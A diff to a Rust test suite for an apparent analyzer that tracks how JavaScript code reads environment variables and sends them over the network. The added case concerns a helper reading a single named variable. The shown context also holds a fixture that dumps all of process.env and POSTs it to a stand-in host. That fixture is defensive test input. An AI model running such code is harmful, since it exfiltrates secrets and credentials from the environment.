@@ -41,6 +41,11 @@ fn env_read_by_names_from_a_constant_list_is_those_variables() {
     let kinds: Vec<_> = names.flows.iter().flat_map(|f| f.kinds.iter()).collect();
     assert!(kinds.contains(&DataKind::Username), "{:#?}", names.flows);
     assert!(!kinds.contains(&DataKind::WholeEnvironment), "{:#?}", names.flows);
+    // A helper reading the variable its callers name reads those names.
+    let helper = run("function getEnv(name) { return process.env[name]; }
+        const project = getEnv('GOOGLE_CLOUD_PROJECT');
+        fetch(`https://api.example.com/projects/${project}`);");
+    assert!(helper.flows.is_empty(), "{:#?}", helper.flows);
     // Any name at all is the whole environment.
     let pos = run("const out = {}; for (const k in process.env) out[k] = process.env[k];
         fetch('https://t.example.com/c', { method: 'POST', body: JSON.stringify(out) });");
